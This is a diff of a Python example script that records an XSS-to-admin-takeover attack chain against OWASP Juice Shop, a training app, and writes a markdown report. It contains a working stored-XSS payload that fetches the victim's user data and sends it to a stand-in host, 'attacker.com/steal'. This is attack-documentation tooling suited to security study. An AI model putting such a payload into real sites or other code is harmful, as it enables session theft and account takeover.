@@ -23,14 +23,38 @@ USAGE:
 
 import sys
 import os
+import importlib.util
 
-# Add chains directory to path
-sys.path.insert(0, os.path.join(os.path.dirname(__file__), '..', '..', 'chains'))
+# Add repo root to path
+if importlib.util.find_spec("chains") is None:
+ sys.path.insert(0, os.path.join(os.path.dirname(__file__), '..', '..'))
 
-from chain_analyzer import (
+from chains.chain_analyzer import (
  ChainAnalyzer, ChainStep, VulnerabilityType, ImpactLevel
 )
 
+# Interned once at import; each chain gets its own mutable copy
+_XSS_CHAIN_TAGS = frozenset(map(sys.intern, (
+ "xss", "session-hijacking", "privilege-escalation", "web", "juice-shop"
+)))
+
+# Session-stealing payload used by step 1 of the example chain
+_XSS_PAYLOAD = (
+ "<script>fetch('/rest/user/whoami', {credentials: 'include'})"
+ ".then(r=>r.json())"
+ ".then(d=>fetch('https://attacker.com/steal?token='+btoa(JSON.stringify(d))))</script>"
+)
+
+def _write_file(path: str, data: bytes) -> None:
+ """Write bytes straight to a file descriptor, bypassing text-mode buffering"""
+ view = memoryview(data)
+ fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644)
+ try:
+  while view:
+   view = view[os.write(fd, view):]
+ finally:
+  os.close(fd)
+
 def create_example_chain():
  """Create an example attack chain for Juice Shop"""
  
@@ -38,52 +62,50 @@ def create_example_chain():
  
  # Example: XSS to Admin Takeover Chain
  chain = analyzer.create_chain(
- title="Juice Shop - XSS to Admin Account Takeover",
- description="Stored XSS in product review leads to session hijacking and admin access",
- impact=ImpactLevel.CRITICAL
+  title="Juice Shop - XSS to Admin Account Takeover",
+  description="Stored XSS in product review leads to session hijacking and admin access",
+  impact=ImpactLevel.CRITICAL
  )
  
  chain.prerequisites = [
- "Valid user account",
- "Ability to post product reviews"
+  "Valid user account",
+  "Ability to post product reviews"
  ]
  chain.context = "OWASP Juice Shop e-commerce application"
- chain.tags = {"xss", "session-hijacking", "privilege-escalation", "web", "juice-shop"}
+ chain.tags = set(_XSS_CHAIN_TAGS)
  chain.severity = "Critical"
  
  # Step 1: Stored XSS
  step1 = ChainStep(
- step_number=1,
- vulnerability_type=VulnerabilityType.XSS,
- description="Stored XSS in product review comment field",
- endpoint="/rest/products/{id}/reviews",
- payload="<script>fetch('/rest/user/whoami', {credentials: 'include'}).then(r=>r.json()).then(d=>fetch('https://attacker.com/steal?token='+btoa(JSON.stringify(d))))</script>",
- outcome="XSS payload stored in product review"
+  step_number=1,
+  vulnerability_type=VulnerabilityType.XSS,
+  description="Stored XSS in product review comment field",
+  endpoint="/rest/products/{id}/reviews",
+  payload=_XSS_PAYLOAD,
+  outcome="XSS payload stored in product review"
  )
  
  # Step 2: Session Hijacking
  step2 = ChainStep(
- step_number=2,
- vulnerability_type=VulnerabilityType.SESSION_HIJACKING,
- description="Admin views product review, XSS executes in admin context, session token stolen",
- endpoint="/#/search?q=...",
- prerequisites=["XSS payload stored in product review"],
- outcome="Admin session token obtained by attacker"
+  step_number=2,
+  vulnerability_type=VulnerabilityType.SESSION_HIJACKING,
+  description="Admin views product review, XSS executes in admin context, session token stolen",
+  endpoint="/#/search?q=...",
+  prerequisites=["XSS payload stored in product review"],
+  outcome="Admin session token obtained by attacker"
  )
  
  # Step 3: Privilege Escalation
  step3 = ChainStep(
- step_number=3,
- vulnerability_type=VulnerabilityType.PRIV_ESCALATION,
- description="Use stolen admin session token to access admin panel",
- endpoint="/#/administration",
- prerequisites=["Admin session token obtained by attacker"],
- outcome="Full admin access to Juice Shop"
+  step_number=3,
+  vulnerability_type=VulnerabilityType.PRIV_ESCALATION,
+  description="Use stolen admin session token to access admin panel",
+  endpoint="/#/administration",
+  prerequisites=["Admin session token obtained by attacker"],
+  outcome="Full admin access to Juice Shop"
  )
  
- chain.add_step(step1)
- chain.add_step(step2)
- chain.add_step(step3)
+ chain.add_steps((step1, step2, step3))
  
  # Validate
  is_valid, issues = chain.validate_chain()
@@ -96,11 +118,11 @@ def create_example_chain():
  print()
  
  if is_valid:
- print(" Chain is valid!")
+  print(" Chain is valid!")
  else:
- print(" Chain validation issues:")
- for issue in issues:
- print(f" - {issue}")
+  print(" Chain validation issues:")
+  for issue in issues:
+   print(f" - {issue}")
  
  analyzer.chains.append(chain)
  
@@ -110,10 +132,9 @@ def create_example_chain():
  print(f"\n Chain exported to: {output_file}")
  
  # Generate markdown report
- from visualizer import generate_markdown_report
+ from chains.visualizer import generate_markdown_report
  report_file = os.path.join(os.path.dirname(__file__), "..", "..", "docs", "xss_to_admin_chain.md")
- with open(report_file, 'w') as f:
- f.write(generate_markdown_report(chain))
+ _write_file(report_file, generate_markdown_report(chain).encode("utf-8"))
  print(f" Markdown report saved to: {report_file}")
  
  return analyzer